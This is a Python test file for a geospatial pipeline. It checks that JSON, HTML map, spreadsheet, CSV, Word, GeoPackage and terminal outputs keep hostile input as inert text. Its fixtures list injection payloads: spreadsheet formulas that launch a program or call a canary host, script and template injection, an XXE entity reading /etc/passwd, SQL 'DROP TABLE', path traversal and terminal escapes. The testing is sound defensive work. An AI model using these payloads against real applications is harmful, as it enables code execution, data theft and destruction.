"""Hostile text in every field of every layer: each output shows it as text and runs none of it."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import tomllib
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from docx import Document
from shapely.geometry import box

from spatial import cli, pipeline
from spatial.errors import found
from tests.flow.conftest import District, X, Y

FORMULAS = ['=cmd|"/C calc"!A0', "@SUM(1+1)", "+1+1", "-2+3", "\t=5+6", '=HYPERLINK("http://canary.example/?"&A1,"x")', "＝3+4", '=WEBSERVICE("http://canary.example/")']
MARKUP = ["</script><script>ran()</script>", "${7*7}", "{{7*7}}", "{% for a in b %}", "<img src=x onerror=ran()>", "&lt;b&gt;", "]]><x/>", "<!ENTITY a SYSTEM 'file:///etc/passwd'>",
          "x'; DROP TABLE parcels; --", "%s%n{0}", "..\\..\\x", "a\u202efdp.exe", "x\u2028y", "甲 & 乙", "𠮷田"]
TEXTS = [*FORMULAS, *MARKUP]
STRIPPED = [text.strip().replace("\u202e", "") for text in TEXTS]  # names lose blanks around them and invisible marks


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One run whose parcels, carriers, ledgers and study name are all hostile."""
    district = District(tmp_path_factory.mktemp("hostile"))
    ids = [f"P{i}" for i in range(len(TEXTS))]
    shapes = [box(X + 120 * i, Y, X + 100 + 120 * i, Y + 100) for i in range(len(TEXTS))]
    district.layer("parcels.gpkg", {"parcel_id": TEXTS, "land_use": ["1001"] * len(ids), "planned_use": TEXTS}, shapes)
    district.layer("carriers.gpkg", {"carrier_id": TEXTS, "carrier_name": TEXTS, "carrier_type": TEXTS, "main_industry": TEXTS}, shapes)
    district.ledger("supply", [{"parcel_id": text.strip(), "supply_id": f"S{i}", "land_use": "1001", "contract_date": "2020-03-01", "area(m2)": 10_000, "location": text,
                                "agreed_start_date": "2020-06-01", "delay_cause": text} for i, text in enumerate(TEXTS)])
    district.ledger("projects", [{"project_id": text, "project_name": text, "parcel_id": text.strip(), "registered_date": "2020-02-01", "industry": text, "city": text, "task_force": text,
                                  "total_investment(万元)": 100} for text in TEXTS])
    district.ledger("enterprises", [{"enterprise_id": text, "year": 2020, "enterprise_name": text, "carrier_id": text.strip(), "industry": text, "tax(万元)": 10} for text in TEXTS])
    study = district.write()
    study.write_text(study.read_text(encoding="utf-8").replace('"四块地"', json.dumps("".join(FORMULAS[:3] + MARKUP), ensure_ascii=False)), encoding="utf-8")
    return pipeline.run(study, out=district.folder / "out").folder


def strings(node: object) -> set[str]:
    if isinstance(node, dict):
        return set().union(*map(strings, node.values()), set())
    if isinstance(node, list):
        return set().union(*map(strings, node), set())
    return {node} if isinstance(node, str) else set()


def test_json_holds_every_text_as_it_is(folder: Path) -> None:
    assert set(STRIPPED) <= strings(json.loads((folder / "results.json").read_text(encoding="utf-8")))


def test_the_map_holds_no_text_that_a_browser_or_a_template_could_run(folder: Path) -> None:
    page = (folder / "map.html").read_text(encoding="utf-8")
    for text in ("<script>ran()", "{{7*7}}", "{% for a", "<img src=x", "<x/>"):
        assert text not in page
    for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S):
        assert not set("<>&{}") - {"{", "}"} & set(block)
        json.loads(block)


def test_workbook_cells_are_text_and_show_it(folder: Path) -> None:
    book = openpyxl.load_workbook(folder / "tables.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert set(STRIPPED) - {str(cell.value) for cell in cells} == set()
    assert not [cell.hyperlink.target for cell in cells if cell.hyperlink is not None and cell.hyperlink.target]
    with zipfile.ZipFile(folder / "tables.xlsx") as archive:
        assert not [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()]
        assert all(b'TargetMode="External"' not in archive.read(name) for name in archive.namelist() if name.endswith(".rels"))


@pytest.mark.parametrize("name", ["scorecard.csv", "findings.csv", "geometry.csv"])
def test_csv_cells_begin_no_formula(folder: Path, name: str) -> None:
    rows = list(csv.reader(io.StringIO((folder / name).read_text(encoding="utf-8-sig"), newline="")))
    assert rows and {len(row) for row in rows} == {len(rows[0])}
    risky = [cell for row in rows for cell in row if re.match(r"\s*[=+@＝＋－＠-]|[\t\r\n]", cell) and not re.fullmatch(r"-?[\d.e+-]+", cell)]
    assert risky == []


def test_a_comparison_on_the_screen_is_guarded_as_its_file_is(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "compare", lambda *runs: pd.DataFrame({"zone": ["=1+1"], "difference": [-2.5]}))
    assert cli.main(["compare", "a", "b"]) == 0
    assert capsys.readouterr().out.splitlines() == ["zone,difference", "'=1+1,-2.5"]


def test_a_terminal_obeys_nothing_that_data_say(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J甲\x9b31m\u202egpj"
    line = found("schema.unknown_column", path=hostile, field=hostile, value_seen=hostile, columns=hostile).line()
    assert cli.main(["map", str(tmp_path / hostile)]) == 2
    for text in (line, capsys.readouterr().err):
        assert "甲" in text and "\\u001b[2J" in text and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text.replace("\n", ""))


@pytest.mark.parametrize("text", TEXTS)
def test_a_table_of_texts_keeps_them_behind_an_apostrophe(text: str, tmp_path: Path) -> None:
    path = pipeline.write_table(pd.DataFrame({text: [text]}), tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows == [[("'" if text in FORMULAS else "") + text]] * 2


def test_the_report_holds_text_without_fields_or_outside_links(folder: Path) -> None:
    document = Document(str(folder / "report.docx"))
    said = "\n".join([*(p.text for p in document.paragraphs), *(cell.text for table in document.tables for row in table.rows for cell in row.cells)])
    assert [text for text in STRIPPED if " ".join(text.split()) not in " ".join(said.split())] == []
    with zipfile.ZipFile(folder / "report.docx") as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))
        body = archive.read("word/document.xml").decode("utf-8")
        assert "DDE" not in "".join(re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", body)) and b'TargetMode="External"' not in archive.read("word/_rels/document.xml.rels")


def test_geopackage_and_parquet_give_the_texts_back(folder: Path) -> None:
    with contextlib.closing(sqlite3.connect(folder / "layers.gpkg")) as base, base:
        assert base.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        tables = {row[0] for row in base.execute("SELECT table_name FROM gpkg_contents")}
    base.close()
    assert tables <= {"parcels", "carriers", "field_checks", "layer_styles"}
    assert set(gpd.read_file(folder / "layers.gpkg", layer="carriers")["carrier_name"]) == set(STRIPPED)
    assert len(set(gpd.read_parquet(folder / "parcels.parquet")["parcel_id"])) == len(TEXTS)


@pytest.mark.parametrize("suffix", [".qml", ".sld"])
def test_styles_are_xml_that_names_nothing_outside(folder: Path, suffix: str) -> None:
    files = sorted((folder / "styles").glob(f"*{suffix}"))
    assert files
    for file in files:
        assert "<!ENTITY" not in file.read_text(encoding="utf-8")
        ElementTree.fromstring(file.read_bytes())


def test_names_of_files_come_from_the_tool(folder: Path) -> None:
    for path in folder.rglob("*"):
        assert re.fullmatch(r"[\w.\- ]+", path.name) and len(path.name.encode()) <= 255


def test_a_first_study_file_for_hostile_names_and_headers_is_plain_toml(tmp_path: Path) -> None:
    names = ['x"]\n[study]\nname = "y.csv', "a\x7fb.csv", "{{7*7}} ${x}.csv", chr(39) * 3 + ".csv"]
    for i, name in enumerate(names):
        head = "宗地代码,合同签订日期,出让面积(平方米),\"备注\n[rules]\nidle = 1\",\"=cmd\x7f\"\n"
        (tmp_path / name).write_text(head + f"3301090010010000{i},2020-03-01,100,x,y\n", encoding="utf-8")
    (tmp_path / "gone.csv").write_text("\n[rules]\nx=1\n", encoding="utf-8")
    path, _ = pipeline.init(tmp_path)
    study = tomllib.loads(path.read_text(encoding="utf-8"))
    assert set(study) <= {"study", "layers"} and study["study"]["name"] == tmp_path.name
    assert {layer["path"] for role, layer in study["layers"].items() if "path" in layer} <= set(names)


@pytest.mark.verify
@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice on this machine")
@pytest.mark.parametrize(("name", "form"), [
    ("tables.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"),
    pytest.param("report.docx", "txt:Text (encoded):UTF8", marks=pytest.mark.skipif(not shutil.which("lowriter"), reason="no LibreOffice Writer on this machine")),
])
def test_libreoffice_shows_the_text_and_computes_nothing(folder: Path, tmp_path: Path, name: str, form: str) -> None:
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'office'}", "--headless", "--convert-to", form, "--outdir", str(tmp_path / "out"), str(folder / name)],
                   check=True, capture_output=True, timeout=1200)
    said = "".join(path.read_text(encoding="utf-8", errors="replace") for path in (tmp_path / "out").iterdir())
    plain = " ".join(said.replace('""', '"').split())
    assert [text for text in STRIPPED if " ".join(text.split()) not in plain] == []


EVALUATE = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"  # as a user who lets LibreOffice take cells for formulas


@pytest.mark.verify
@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice on this machine")
def test_libreoffice_takes_no_cell_of_a_csv_for_a_formula(folder: Path, tmp_path: Path) -> None:
    names = ["scorecard.csv", "findings.csv", "geometry.csv", "rows.csv", "matches.csv"]
    for name in names:
        shutil.copy(folder / name, tmp_path / name)
    pipeline.write_table(pd.DataFrame({"text": TEXTS}), tmp_path / "texts.csv")
    (tmp_path / "control.csv").write_text("a\n=1+1\n", encoding="utf-8")  # not guarded: the program does take it for one
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'office'}", "--headless", f"--infilter={EVALUATE}", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
                    *(str(tmp_path / name) for name in (*names, "texts.csv", "control.csv"))], check=True, capture_output=True, timeout=1200)

    def formulas(name: str) -> list[str]:
        book = openpyxl.load_workbook((tmp_path / "out" / name).with_suffix(".xlsx"))
        return [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    assert formulas("control.csv") == ["=1+1"]
    assert {name: formulas(name) for name in (*names, "texts.csv")} == dict.fromkeys((*names, "texts.csv"), [])
    shown = {str(row[0].value).lstrip("'") for row in openpyxl.load_workbook(tmp_path / "out" / "texts.xlsx").active.iter_rows(min_row=2)}
    assert {text.strip() for text in TEXTS} <= {text.strip() for text in shown}
